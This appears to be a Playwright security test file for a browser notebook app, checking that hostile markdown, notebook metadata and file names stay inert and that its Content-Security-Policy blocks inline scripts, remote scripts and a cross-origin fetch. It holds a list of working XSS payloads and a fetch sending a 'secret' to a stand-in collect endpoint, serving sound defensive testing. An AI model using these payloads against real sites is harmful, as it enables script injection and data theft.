// Security (issue 15): hostile markdown and hostile notebook names and metadata run nothing (cases 21, 22); the
// Content-Security-Policy allows no remote or inline script and no connection beyond the app and the dataset hosts,
// a cell's fetch to another origin included, while the notebook works as usual (case 29).
import { expect, test, type Page } from '@playwright/test';
import { cell, editor, openNotebook, output, runCell } from './helpers/notebook';
import { expectPageMounted, expectResponsive, expectSources } from './helpers/intact';

declare global {
  interface Window {
    __xss?: unknown;
    __violations?: string[];
  }
}

const TRAP = 'window.__xss=1';

const HOSTILE_MARKDOWN = [
  `<img src=x onerror="${TRAP}"> an image that fails to load`,
  `<script>${TRAP}</script> a script block`,
  `[a javascript: link](javascript:${TRAP}) and <a href=" JaVaScRiPt:${TRAP}">a spaced one</a>`,
  `<svg><script>${TRAP}</script><a xlink:href="javascript:${TRAP}"><text y="10">svg link</text></a></svg>`,
  `<svg onload="${TRAP}"><animate onbegin="${TRAP}" attributeName="x" dur="0.1s"/></svg>`,
  `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe><object data="javascript:${TRAP}"></object><embed src="javascript:${TRAP}">`,
  `<details open ontoggle="${TRAP}"><summary>details</summary></details><form action="javascript:${TRAP}"><button>go</button></form>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${TRAP}">`,
  `![img](javascript:${TRAP}) <div style="background:url(javascript:${TRAP})">styled</div> $\\href{javascript:${TRAP}}{tex link}$`,
];

const EVIL_TITLE = `<img src=x onerror="${TRAP}">Evil <script>${TRAP}</script> notebook`;

function hostileNotebook(): Buffer {
  const evil = `<img src=x onerror="${TRAP}">`;
  return Buffer.from(
    JSON.stringify({
      nbformat: 4,
      nbformat_minor: 5,
      metadata: {
        title: evil,
        convlab: { title: EVIL_TITLE, summary: `<svg onload="${TRAP}">` },
        kernelspec: { name: evil, display_name: `<script>${TRAP}</script>`, language: evil },
        language_info: { name: evil },
      },
      cells: [
        { cell_type: 'code', id: `x"><img src=x onerror="${TRAP}">`, metadata: { tags: [evil], name: evil }, source: '1 + 1', outputs: [], execution_count: null },
        { cell_type: 'markdown', id: 'md', metadata: { [evil]: evil }, source: `# ${evil} heading` },
      ],
    }),
  );
}

/** Nothing in the page can run: no scripts, no event-handler attributes, no script URLs, no frames or plugins. */
async function expectInert(page: Page): Promise<void> {
  const found = await page.evaluate(() => {
    const bad: string[] = [];
    for (const el of document.body.querySelectorAll('*')) {
      if (['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED', 'FORM'].includes(el.tagName.toUpperCase())) bad.push(`<${el.tagName}>`);
      for (const { name, value } of el.attributes) {
        // As a browser reads a URL: blanks and control characters inside the scheme do not count.
        const url = [...value].filter((ch) => ch.charCodeAt(0) > 0x20).join('').toLowerCase();
        if (name.toLowerCase().startsWith('on')) bad.push(`${el.tagName} ${name}`);
        if (/^(javascript|vbscript):/.test(url) || url.includes('url(javascript:')) bad.push(`${el.tagName} ${name}=${value}`);
      }
    }
    return bad;
  });
  expect(found).toEqual([]);
  expect(await page.evaluate(() => window.__xss)).toBeUndefined();
}

test('hostile markdown, notebook names and metadata run nothing and show as text (issue 15, cases 21 and 22)', async ({ page }) => {
  const pageErrors: string[] = [];
  page.on('pageerror', (e) => pageErrors.push(e.message));
  await page.goto('/#/scratch');
  await page.waitForFunction(() => window.__convlab !== undefined);
  await page.evaluate((cells) => window.__convlab!.loadNotebook({ cells: [...cells.map((source) => ({ cell_type: 'markdown' as const, source })), { cell_type: 'code' as const, source: '"mine"' }] }), HOSTILE_MARKDOWN);
  await expect(page.locator('section.cell')).toHaveCount(HOSTILE_MARKDOWN.length + 1);
  await expect(page.getByText('an image that fails to load')).toBeVisible();
  await expect(page.getByText('svg link')).toBeVisible();
  // Give a broken image's onerror, an SVG animation and a toggle time to fire, had they survived.
  await page.waitForTimeout(1_000);
  await expectInert(page);

  // Case 22: a notebook whose title, kernelspec, cell ids and metadata are HTML.
  const chooser = page.waitForEvent('filechooser');
  await page.getByRole('button', { name: 'Import notebook' }).click();
  await (await chooser).setFiles({ name: `<img src=x onerror="${TRAP}">.ipynb`, mimeType: 'application/json', buffer: hostileNotebook() });
  await expect(page).toHaveURL(/#\/lesson\/imported-/);
  await expect(page.locator('.notebook-title')).toHaveText(EVIL_TITLE);
  expect(await page.title()).toBe(`${EVIL_TITLE} · ConvLab`);
  await expect(page.locator('section.cell')).toHaveCount(2);
  await page.goto('/#/');
  await expect(page.locator('a', { hasText: 'Evil' })).toHaveText(EVIL_TITLE);
  await page.waitForTimeout(500);
  await expectInert(page);
  await page.goBack();
  // Monaco's start-up is the page's one long task; answering a click is asked of the page once it is up.
  await editor(page, 1);
  await expectPageMounted(page);
  await expectResponsive(page);
  await expectSources(page, { 1: '1 + 1' });
  expect(pageErrors).toEqual([]);
});

test('the Content-Security-Policy blocks remote and inline scripts and a cell’s fetch to another origin; the notebook works (issue 15, case 29)', async ({ page }) => {
  // Every violation the page reports, from the first script on.
  await page.addInitScript(() => {
    window.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) => window.__violations!.push(`${e.effectiveDirective} ${e.blockedURI}`));
  });
  const reached: string[] = [];
  await page.context().route('https://example.com/**', (route) => {
    reached.push(route.request().url());
    return route.fulfill({ status: 200, body: 'leaked', headers: { 'access-control-allow-origin': '*' } });
  });
  await page.context().route('https://raw.githubusercontent.com/**', (route) =>
    route.fulfill({ status: 200, body: 'dataset host', headers: { 'access-control-allow-origin': '*' } }),
  );

  const sources = [
    `await fetch('https://example.com/collect?secret=1').then(() => 'reached', (e: Error) => 'blocked: ' + e.message)`,
    `(await fetch('https://raw.githubusercontent.com/zalandoresearch/fashion-mnist/master/README.md')).status`,
    `(await fetch('/favicon.svg')).status`,
  ];
  const documentResponse = page.waitForResponse((r) => r.request().resourceType() === 'document');
  await openNotebook(page, sources);
  // A real header (vite preview), and the same policy as a <meta> in the built page for static hosts.
  const header = (await documentResponse).headers()['content-security-policy'] ?? '';
  expect(header).toContain("script-src 'self';");
  expect(header).toContain("connect-src 'self' https://raw.githubusercontent.com");
  await expect(page.locator('meta[http-equiv="Content-Security-Policy"]')).toHaveCount(1);
  for (const n of [1, 2, 3]) await runCell(page, n);
  await expect(output(page, 1)).toContainText('blocked: Failed to fetch');
  await expect(output(page, 2)).toContainText('200');
  await expect(output(page, 3)).toContainText('200');
  expect(reached).toEqual([]);

  // The page itself: an injected inline script and a remote script do not run.
  await page.context().route('https://cdn.example.com/**', (route) => {
    reached.push(route.request().url());
    return route.fulfill({ status: 200, contentType: 'text/javascript', body: 'window.__xss = "remote"' });
  });
  await page.evaluate(() => {
    const inline = document.createElement('script');
    inline.textContent = 'window.__xss = "inline"';
    const remote = document.createElement('script');
    remote.src = 'https://cdn.example.com/evil.js';
    document.body.append(inline, remote);
  });
  // Exactly these two (each reported by both the header and the <meta>): the notebook's own work (Monaco, the
  // kernel, KaTeX, outputs) raised none.
  await expect.poll(() => page.evaluate(() => [...new Set(window.__violations)])).toEqual(['script-src-elem inline', 'script-src-elem https://cdn.example.com/evil.js']);
  expect(await page.evaluate(() => window.__xss)).toBeUndefined();
  expect(reached).toEqual([]);

  await expect(cell(page, 1).locator('.monaco-editor')).toBeVisible();
  await expectPageMounted(page);
  await expectResponsive(page);
  await expectSources(page, { 1: sources[0], 2: sources[1], 3: sources[2] });
});
